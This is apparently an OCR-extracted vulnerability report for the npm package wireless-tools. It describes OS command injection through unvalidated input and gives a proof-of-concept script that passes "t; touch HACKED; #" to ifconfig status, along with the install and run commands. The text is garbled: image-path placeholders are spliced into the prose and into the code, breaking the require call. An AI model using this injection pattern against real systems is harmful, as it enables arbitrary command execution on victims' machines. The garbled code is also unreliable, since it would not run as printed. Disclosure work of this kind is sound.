vulnerability remote code execution
severity 3.8
language javascript
registry npm


The wireless-toolsmodule is vulnerable against RCE since a command is crafted using user inputs not validated and then executed, leading to arbitrary command injection


  1. Create thefollowing PoC file:
// poc.jsvar hd = require('wireless-tools/ifconfig');
hd.status("t;touch HACKED; #", function(){});

  1. Check there aren't files called HACKED
  2. Execute the followingcommands in another terminal:
npm i wireless-tools # Install affected module
node poc.js #  Run the PoC
  1. Recheck the files: now HACKED has been created